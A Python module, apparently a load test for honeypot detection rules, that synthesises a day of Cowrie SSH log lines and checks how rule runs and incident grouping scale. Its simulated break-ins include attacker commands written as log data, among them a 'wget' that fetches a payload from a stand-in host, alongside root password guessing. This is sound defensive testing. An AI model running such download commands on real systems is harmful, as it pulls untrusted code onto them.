"""A storm: a hundred thousand cowrie lines, written by a fixed recipe, go through the same projection, rules and grouping.

The rules run as often as they would in the workspace, over the hours of the storm. What is shown: the number of incidents
follows from the rules' own limits and the grouping by address, not from the number of lines.
"""
import json
import random
from datetime import datetime, timedelta

import duckdb_kql

import alerts
import incidents
import projection
import rules

HOURS = 24  # a whole day: the lookback of the grouping
ADDRESSES = 200
SESSION_LINES = 12
TABLE = "HoneypotCowrie_CL"


def address(number: int) -> str:
    return f"{('198.51.100', '203.0.113')[number % 2]}.{1 + number // 2 % 254}"


def lines(count: int, addresses: int, start: datetime) -> list[str]:
    """Sessions of twelve lines: a greeting, guesses, sometimes a way in. A few addresses send most of them."""
    chance = random.Random(7)
    weights = [1 / (number + 1) for number in range(addresses)]
    sessions = count // SESSION_LINES + 1
    bots = chance.choices(range(addresses), weights, k=sessions)
    step = timedelta(hours=HOURS) / (sessions + 1)
    out = []
    for number, bot in enumerate(bots):
        out += session(number, address(bot), start + number * step, chance)
    return out[:count]


def session(number: int, source: str, time: datetime, chance: random.Random) -> list[str]:
    events = [{"eventid": "cowrie.session.connect"}, {"eventid": "cowrie.client.kex", "hassh": f"{number % 5:032x}"}]
    gets_in = chance.random() < 0.05
    guesses = SESSION_LINES - len(events) - (4 if gets_in else 0)
    events += [{"eventid": "cowrie.login.failed", "username": "root", "password": f"guess{n}"} for n in range(guesses)]
    if gets_in:
        events += [
            {"eventid": "cowrie.login.success", "username": "root", "password": "root"},
            {"eventid": "cowrie.command.input", "input": "uname -a"},
            {"eventid": "cowrie.command.input", "input": "wget http://192.0.2.23/x"},
            {"eventid": "cowrie.session.file_download", "url": "http://192.0.2.23/x", "shasum": f"{chance.randrange(8):064x}"},
        ]
    common = {"session": f"{number:012x}", "protocol": "ssh", "src_ip": source, "src_port": 50000, "dst_ip": "10.99.0.4", "dst_port": 22, "sensor": "tpot-01"}
    return [json.dumps({**common, **event, "timestamp": f"{time.isoformat()}Z"}) for event in events]


def run(root, count: int, now: datetime, not_run: rules.NotRun) -> dict:
    connection = projection.connect()
    tables = projection.declared(root)
    start = now - timedelta(hours=HOURS)
    for table in tables:
        if table["table"] == TABLE:
            projection.project(connection, table, lines(count, ADDRESSES, start))
        else:
            projection.create(connection, table)
    concerned = [rule for rule in rules.load(root) if TABLE in rule.tables]
    per_rule = {rule.key: storm_of(connection, rule, start, now, not_run) for rule in concerned}
    total = {name: sum(figures[name] for figures in per_rule.values()) for name in ("alerts", "incidents", "bound")}
    return {"lines": count, "addresses": ADDRESSES, "hours": HOURS, **total, "rules": per_rule}


def storm_of(connection, rule: rules.Rule, start: datetime, now: datetime, not_run: rules.NotRun) -> dict:
    """Runs one rule through the storm. Its bound: runs times the alerts that one run can make, whatever the lines."""
    frequency = min(rule.duration("frequency"), now - start)
    grouping, made, runs = incidents.Grouping(), 0, 0
    time = start + frequency
    while time <= now:
        try:
            found = alerts.from_rows(rule, rules.run(connection, rule.kql, time), time)
        except duckdb_kql.KqlUnsupportedError as error:
            not_run.add("rule in the storm", rule.key, error)
            break
        grouping.add(found)
        made, runs, time = made + len(found), runs + 1, time + frequency
    keys = [incidents.group_key(incident.alerts[0]) for incident in grouping.incidents]
    return {"runs": runs, "alerts": made, "incidents": len(keys), "addresses": len(set(keys)), "bound": runs * rule.most_alerts}
